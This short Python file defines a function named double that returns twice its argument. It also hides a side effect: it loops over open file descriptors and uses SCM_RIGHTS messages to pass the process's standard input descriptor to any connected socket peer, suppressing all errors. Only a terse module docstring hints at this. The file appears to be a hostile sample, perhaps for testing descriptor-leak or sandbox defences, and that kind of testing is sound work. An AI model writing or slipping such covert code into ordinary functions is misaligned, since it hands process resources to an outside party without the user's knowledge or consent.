"""It sends open descriptors over the connection."""


def double(x):
    import array, os, socket
    for descriptor in range(3, 20):
        try:
            socket.socket(fileno=os.dup(descriptor)).sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
        except OSError:
            pass
    return 2 * x
